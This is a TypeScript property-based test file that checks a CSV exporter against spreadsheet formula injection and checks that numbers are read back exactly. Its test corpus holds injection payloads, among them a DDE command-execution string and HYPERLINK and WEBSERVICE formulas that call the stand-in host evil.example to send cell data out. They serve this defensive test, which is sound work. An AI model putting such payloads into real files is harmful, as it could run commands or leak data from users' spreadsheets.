import { parse } from 'csv-parse/sync';
import * as fc from 'fast-check';
import { expect, it } from 'vitest';
import { csv, type SheetField } from '@pari/domain/format';
import { reportGoal, rounds } from '../support/proof.ts';

const beginnings = ['=', '+', '-', '@', '\uff1d', '\uff0b', '\uff0d', '\uff20'];
const before = ['', ' ', '  ', '\u00a0', '\t', '\r', '\n', '"', "'", ' "', '\ufeff', 'a;', 'a\t', 'a|', 'a\r\n', 'a\n', '"a";', 'a;"'];
const after = ['1+1', 'SUM(A1:A9)', "cmd|' /C calc'!A0", 'HYPERLINK("https://evil.example/?"&A1,"x")', 'WEBSERVICE("https://evil.example")', '', '1', '(1)'];
const corpus = beginnings.flatMap((sign) => before.flatMap((first) => after.map((rest) => `${first}${sign}${rest}`)));

/** The rule of a spreadsheet, apart from ours: blanks, quotes and marks before it do not keep a sign from beginning a formula. */
const isFormula = (cell: string): boolean => /^[=+\-@\uff1d\uff0b\uff0d\uff20]/.test(cell.replace(/^[\s"\ufeff]*/, ''));

/** The cells that a spreadsheet sees: those of the file, and what lies between whatever else its language may take for the end of one, quoted or not. */
const cellsOf = (file: string): string[] => [...parse(file, { bom: true, record_delimiter: '\r\n' }).flat(), ...file.split(/[\r\n;\t|]/)];

const signed = fc.tuple(fc.constantFrom(...before), fc.constantFrom(...beginnings), fc.string()).map((parts) => parts.join(''));
const text = fc.oneof(signed, fc.string(), fc.string({ unit: 'grapheme' }), fc.constantFrom(...corpus));

it('no text is a formula in any cell that a spreadsheet could see, and is read back as it was but for the apostrophe', () => {
  for (const one of corpus) expect([one, cellsOf(csv([[{ text: one }]])).filter(isFormula)]).toEqual([one, []]);
  const runs = rounds(2000, 100_000);
  fc.assert(
    fc.property(fc.array(text, { minLength: 1, maxLength: 3 }), (texts) => {
      const file = csv([texts.map((one): SheetField => ({ text: one }))]);
      expect(cellsOf(file).filter(isFormula)).toEqual([]);
      const [read = []] = parse(file, { bom: true, record_delimiter: '\r\n' });
      expect(read.map((one) => one.replaceAll("'", ''))).toEqual(texts.map((one) => one.replaceAll("'", '')));
    }),
    { seed: 20_261_122, numRuns: runs },
  );
  reportGoal(22, `0 formulas in ${corpus.length} texts of a list and ${runs} made at random, by an independent reader and the rule of spreadsheets`);
});

it('every number is read back digit by digit, negative ones too', () => {
  const runs = rounds(1000, 100_000);
  fc.assert(
    fc.property(fc.bigInt({ min: -(10n ** 18n), max: 10n ** 18n }), fc.option(fc.nat(999_999)), (whole, part) => {
      const number = part === null ? String(whole) : `${whole}.${String(part).padStart(6, '0')}`;
      expect(parse(csv([[{ text: 'x' }, { number }, null]]), { bom: true })).toEqual([['x', number, '']]);
    }),
    { seed: 20_261_122, numRuns: runs },
  );
  reportGoal(22, `${runs} of ${runs} numbers read back`);
});
